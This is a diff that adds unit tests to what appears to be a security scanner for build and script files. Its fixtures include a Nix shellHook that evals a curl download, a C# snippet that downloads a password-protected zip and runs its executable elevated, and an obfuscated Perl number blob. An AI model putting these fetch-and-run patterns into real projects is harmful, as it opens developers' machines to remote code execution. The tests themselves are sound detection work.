@@ -119,3 +119,36 @@ def test_a_gradle_task_that_zips_signing_keys_and_posts_them() -> None:
         "'**/*.jks', '**/*.keystore', '**/keystore.properties'", "'**/lint-report.xml'"
     ).replace("['.android/debug.keystore', '.android/adbkey']", "[]")
     assert "BEH001" not in rules(report, "gradle/lint-cache.gradle")
+
+
+def test_a_shell_eval_of_a_download_whatever_the_curl_path() -> None:
+    nix = (
+        "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n"
+        '      eval "$(${pkgs.curl}/bin/curl -fsSL ${hookSource} 2>/dev/null)"\n'
+        "    '';\n  };\n}\n"
+    )
+    assert "BEH047" in rules(nix, "flake.nix")
+    assert "BEH047" not in rules(nix.replace("eval", "echo"), "flake.nix")
+
+
+def test_csharp_download_unpack_with_a_password_and_start_elevated() -> None:
+    csx = """using var http = new HttpClient();
+var daten = await http.GetByteArrayAsync("https://files.example-cdn.de/pub/tools.zip");
+await File.WriteAllBytesAsync(zip, daten);
+var fz = new FastZip { Password = "tsa-2024!" };
+fz.ExtractZip(zip, ziel, null);
+var psi = new ProcessStartInfo(exe, "--install") { UseShellExecute = true, Verb = "runas" };
+Process.Start(psi);
+"""
+    assert "BEH006" in rules(csx, "tools/SignPrep.csx")
+
+
+def test_a_perl_word_list_of_numbers_is_a_blob() -> None:
+    from hermes_core.security.facts import extract_facts
+    from hermes_core.security.lexicon import Kind
+    from hermes_core.security.regions import script_regions
+
+    perl = "my @n = qw(\n 114 113 123 125 36 36 119 119 90 93 36 97 101 112 121 98 62 38\n);\n"
+    assert extract_facts(perl, script_regions(perl)).of(Kind.BLOB)
+    words = "my @n = qw(alpha beta gamma);\n"
+    assert not extract_facts(words, script_regions(words)).of(Kind.BLOB)
